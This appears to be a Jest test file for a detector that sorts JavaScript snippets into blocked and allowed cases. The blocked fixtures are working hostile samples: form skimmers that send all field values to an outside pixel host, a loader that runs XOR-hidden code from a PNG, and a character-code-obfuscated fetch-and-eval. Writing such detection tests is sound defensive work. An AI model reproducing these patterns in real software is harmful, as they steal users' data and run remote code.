import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('values of forms in pictures, code behind pictures', () => {
  itJudges([
    [
      'values of a form in a picture',
      'stopped',
      {
        'form.js':
          "document.querySelector('#order').addEventListener('submit', (e) => {\n  const v = Object.fromEntries(new FormData(e.target));\n  if (!v.name) { e.preventDefault(); return; }\n  const p = new Image();\n  p.src = 'https://px.tidyreports.net/p.gif?t=' + Date.now() +\n    '&v=' + encodeURIComponent(JSON.stringify(v));\n});\n",
      },
    ],
    [
      'values of a form in a picture by a template',
      'stopped',
      {
        'page.mjs':
          "export const script = `\nfunction report(form) {\n  var all = {};\n  for (var i = 0; i < form.elements.length; i++) all[form.elements[i].name] = form.elements[i].value;\n  new Image().src = 'https://px.tidyreports.net/p.gif?v=' + btoa(JSON.stringify(all));\n}\n`;\n",
      },
    ],
    [
      'code behind a picture',
      'stopped',
      {
        'load.js':
          "const fs = require('fs');\nconst bytes = fs.readFileSync(__dirname + '/banner.png');\nconst text = Array.from(bytes.subarray(bytes.indexOf('IEND') + 8), (b) => String.fromCharCode(b ^ 37)).join('');\nif (text) new Function('require', text)(require);\n",
      },
    ],
    [
      'code by the codes of a list',
      'stopped',
      {
        'load.js':
          "const c = [104, 116, 116, 112, 115, 58, 47, 47, 112, 46, 116, 105, 100, 121, 114, 101, 112, 111, 114, 116, 115, 46, 110, 101, 116, 47, 120];\nconst u = Array.from(c, (x) => String.fromCharCode(x)).join('');\nfetch(u).then((r) => r.text()).then((t) => eval(t));\n",
      },
    ],
    [
      'a pixel of analytics',
      'passed',
      {
        'page.js':
          "const i = new Image();\ni.src = 'https://www.google-analytics.com/collect?v=1&dp=' + encodeURIComponent(location.pathname);\n",
      },
    ],
    [
      'a picture out of a form',
      'passed',
      {
        'page.js':
          "document.querySelector('#qr').addEventListener('submit', (e) => {\n  e.preventDefault();\n  const f = new FormData(e.target);\n  document.querySelector('img').src = 'https://api.qrserver.com/v1/create-qr-code/?data=' + encodeURIComponent(f.get('text'));\n});\n",
      },
    ],
    [
      'a form that is sent to its own host',
      'passed',
      {
        'page.js':
          "form.addEventListener('submit', async (e) => {\n  e.preventDefault();\n  const v = Object.fromEntries(new FormData(form));\n  const r = await fetch('/api/orders', { method: 'POST', body: JSON.stringify(v) });\n  out.textContent = r.ok ? 'Thank you' : 'Try again';\n});\n",
      },
    ],
    [
      'letters of a list',
      'passed',
      {
        't.js':
          "const fs = require('fs');\nconst rows = Array.from(new Set(fs.readFileSync('notes.txt', 'utf8').split('\\n')), (r) => r.trim());\nconsole.log(Array.from({ length: 3 }, (_, i) => String.fromCharCode(65 + i)).join(' '), rows.length);\n",
      },
    ],
  ]);
});
